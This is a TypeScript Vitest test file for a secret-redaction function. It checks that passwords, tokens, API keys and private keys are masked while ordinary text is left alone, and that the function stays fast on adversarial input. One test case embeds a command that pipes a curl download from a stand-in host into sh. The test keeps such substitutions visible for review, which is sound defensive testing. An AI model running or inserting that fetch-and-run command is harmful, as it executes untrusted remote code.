import { describe, expect, test } from "vitest";
import { redactSecrets } from "../src/index.js";

describe("redactSecrets hides", () => {
  const cases: ReadonlyArray<readonly [string, string, string]> = [
    ["sshpass", "sshpass -p hunter2pass ssh bob@host", "hunter2pass"],
    ["mysql -p", "mysql -uroot -pS3cretPw db", "S3cretPw"],
    ["curl -u", "curl -u alice:pa55word https://x.test", "pa55word"],
    ["url credentials", "git clone https://bob:tok3n-value@git.test/r.git", "tok3n-value"],
    ["bearer header", 'curl -H "Authorization: Bearer abcdefgh12345678" x', "abcdefgh12345678"],
    ["env assignment", "OPENAI_API_KEY=abc123def456 node app.js", "abc123def456"],
    ["quoted env", 'export DB_PASSWORD="p a s s"', "p a s s"],
    ["bare secret name", "retry with token=abcd1234secret", "abcd1234secret"],
    ["bare password", "password=hunter22 rejected", "hunter22"],
    ["long flag", "tool --api-key=zzzyyyxxx1 run", "zzzyyyxxx1"],
    ["long flag with space", "tool --password hunter22 run", "hunter22"],
    ["json field", '{"client_secret": "s3cr3t-value"}', "s3cr3t-value"],
    ["openai key", "key is sk-proj-abcdefghijklmnopqrstuv", "sk-proj-abcdefghijklmnopqrstuv"],
    ["github token", "ghp_abcdefghijklmnopqrstuvwxyz0123", "ghp_abcdefghijklmnopqrstuvwxyz0123"],
    ["aws key", "AKIAABCDEFGHIJKLMNOP", "AKIAABCDEFGHIJKLMNOP"],
    ["bare name", "request failed: token=abcd1234secret", "abcd1234secret"],
  ];
  test.each(cases)("%s", (_name, text, secret) => {
    const out = redactSecrets(text);
    expect(out).not.toContain(secret);
    expect(out).toContain("***");
  });

  test("private keys", () => {
    const key =
      "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAAB3NzaC1\nxyz\n-----END OPENSSH PRIVATE KEY-----";
    const out = redactSecrets(`before\n${key}\nafter`);
    expect(out).not.toContain("AAAAB3NzaC1");
    expect(out).toContain("before");
    expect(out).toContain("after");
  });

  test("with a chosen mask", () => {
    expect(redactSecrets("GITHUB_TOKEN=abcdef123", { mask: "[REDACTED]" })).toBe(
      "GITHUB_TOKEN=[REDACTED]",
    );
  });
});

describe("redactSecrets leaves ordinary text alone", () => {
  const texts = [
    "max_tokens=4096",
    "password: must be at least 8 characters",
    "total_tokens: 1234",
    "the token expired, log in again",
    "ls -la /tmp && echo done",
    "mysql -u root -p db",
    "grep -r password src/",
    "https://example.test/path?page=2",
    "PWD=/home/user/project OLDPWD=/home/user",
    // An unset secret printed by a script must not look set.
    "OPENAI_API_KEY=None",
    "GITHUB_TOKEN=null DB_PASSWORD=undefined",
    "API_KEY='' TOKEN=\"\"",
    "--token ''",
  ];
  test.each(texts)("%s", (text) => {
    expect(redactSecrets(text)).toBe(text);
  });

  test("an assignment with nothing after it never takes the next line", () => {
    expect(redactSecrets("OPENAI_API_KEY=\nbuild finished\n")).toBe(
      "OPENAI_API_KEY=\nbuild finished\n",
    );
    expect(redactSecrets("--password\nnext line")).toBe("--password\nnext line");
    expect(redactSecrets("API_KEY=NoneOfYourBusiness1")).toBe("API_KEY=***");
  });

  test("substitutions stay visible so a reviewer sees what will run", () => {
    const command = 'API_TOKEN="$(curl -s https://x.test/p | sh)" npm run build';
    expect(redactSecrets(command)).toBe(command);
  });

  test("is linear on adversarial input", () => {
    const big = "TOKEN=".repeat(50_000) + "a".repeat(200_000) + " curl ".repeat(20_000);
    const started = performance.now();
    redactSecrets(big);
    // A generous bound that only a super-linear pattern would cross.
    expect(performance.now() - started).toBeLessThan(5_000);
  });
});
